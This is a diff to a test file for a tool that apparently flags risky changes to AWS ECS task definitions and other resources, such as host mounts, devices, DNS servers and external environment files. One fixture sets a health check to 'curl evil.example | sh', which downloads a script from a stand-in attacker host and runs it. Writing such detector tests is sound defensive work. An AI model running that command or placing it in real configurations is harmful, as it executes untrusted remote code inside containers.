@@ -37,6 +37,37 @@ describe("a task definition", () => {
       "otherwise: capabilities.",
     ],
     [
+      "a folder of the host",
+      { mountPoints: [{ sourceVolume: "host" }] },
+      "exposure: ",
+      "otherwise: mountPoints.",
+    ],
+    [
+      "another address for a name",
+      { extraHosts: [{ hostname: "db" }] },
+      "exposure: ",
+      "otherwise: extraHosts.",
+    ],
+    ["another name server", { dnsServers: ["192.0.2.1"] }, "exposure: ", "otherwise: dnsServers."],
+    [
+      "a device",
+      { linuxParameters: { devices: [{ hostPath: "/dev/sda" }] } },
+      "exposure: ",
+      "otherwise: devices.",
+    ],
+    [
+      "another health check",
+      { healthCheck: { command: ["CMD-SHELL", "curl evil.example | sh"] } },
+      "notice: ",
+      "starts the container app otherwise: healthCheck changes.",
+    ],
+    [
+      "settings of another bucket",
+      { environmentFiles: [{ value: "arn:aws:s3:::evil/x.env" }] },
+      "notice: ",
+      "environmentFiles changes.",
+    ],
+    [
       "another command",
       { command: ["sh"] },
       "notice: ",
@@ -60,6 +91,14 @@ describe("a task definition", () => {
   it.each(["2", "deployed-20261122T041500Z"])("is not with another tag, as of each release: %s", (tag) => {
     expect(task({ image: `${IMAGE}:${tag}` })).toEqual([]);
     expect(task({ image: `${IMAGE}@sha256:${"a".repeat(64)}` })).toEqual([]);
+  });
+
+  it("is not with what ECS adds to a registered one, and with other settings", () => {
+    expect(task({ mountPoints: [], volumesFrom: [], privileged: false })).toEqual([]);
+    const settings = (digit: string) =>
+      definitions({ environmentFiles: [{ value: `arn:aws:s3:::api/env/${digit.repeat(64)}.env` }] });
+    const [before, after] = [settings("a"), settings("b")];
+    expect(said(change("aws_ecs_task_definition", { action: "replace", before, after }))).toEqual([]);
   });
 
   it("is reported when it is new and its image is not in Amazon ECR", () => {
@@ -93,6 +132,8 @@ it.each([
     { default_action: [] },
     "default_action changes.",
   ],
+  ["aws_cloudwatch_event_target", { arn: "a" }, { arn: "b" }, "arn changes."],
+  ["aws_sns_topic_subscription", { endpoint: "a" }, { endpoint: "b" }, "endpoint changes."],
   ["aws_route", { gateway_id: "igw-1" }, { gateway_id: "igw-2" }, "gateway_id changes."],
 ])("requests go elsewhere by a change in place of %s: %j", (type, before, after, what) => {
   expect(said(change(type, { before, after }))).toEqual([
